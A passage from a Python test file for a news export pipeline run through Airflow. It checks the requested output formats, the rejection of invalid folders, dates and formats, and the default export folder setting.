    airflow_url = cluster.ensure_database("export_airflow", template=airflow_template(cluster, home))
    env = airflow.environment(home, airflow_url, news)
    return {**env, "NEWSWIRE_HOME": str(home)}


def test_the_dag_exports_what_its_form_asks_for_and_refuses_what_cannot_be(installation: dict[str, str], tmp_path: Path) -> None:
    days = {
        "start": "2026-02-19T00:00:00+02:00", "end": "2026-02-22T00:00:00+02:00", "formats": ["text", "jsonl"], "sources": [],
        "languages": [], "originals": False, "folder": None,
    }  # fmt: skip
    home = Path(installation["NEWSWIRE_HOME"])
    with airflow.one_shot(installation, tmp_path / "oneshot.log") as process:
        process.run("export", {**days, "formats": ["csv", "parquet"], "folder": f"file://{tmp_path}/out", "sources": ["unn"]})
        process.run("export", days)
        for form, said in (
            ({"formats": ["warc"], "languages": ["uk"]}, "WARC holds pages as they came"),
            ({"folder": "news/export"}, "must be a whole path, or a URL"),
            ({"folder": "nothing://bucket"}, "nothing"),
            ({"start": days["end"], "end": days["start"]}, "before it starts"),
        ):
            with pytest.raises(airflow.AirflowError, match="'export'"):
                process.run("export", {**days, **form})
            assert said in (tmp_path / "oneshot.log").read_text()
        with pytest.raises(airflow.AirflowError, match="refused: Invalid input for param formats"):
            process.run("export", {**days, "formats": ["xlsx"]})
    assert_true(tmp_path / "out" / "2026-02-20")
    assert manifest(tmp_path / "out" / "parquet" / "day=2026-02-20")["formats"]["parquet"]["rows"] == 1
    assert listed(home / "export" / "2026-02-20") == {"articles.jsonl", "text/unn_1.txt", "text/telegram_2.txt"}


def test_the_form_of_the_dag_offers_all_formats() -> None:
    written = (ROOT / "dags" / "export.py").read_text()
    assert f"FORMATS = {json.dumps(export.ALL_FORMATS)}" in written
    assert warc.FORMAT in export.ALL_FORMATS


def test_the_default_folder_may_be_a_url(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("NEWSWIRE_EXPORT", "s3://bucket/news")
    assert delivery.default_folder() == "s3://bucket/news"
    monkeypatch.setenv("NEWSWIRE_EXPORT", str(tmp_path))
    assert delivery.default_folder() == str(tmp_path.resolve())
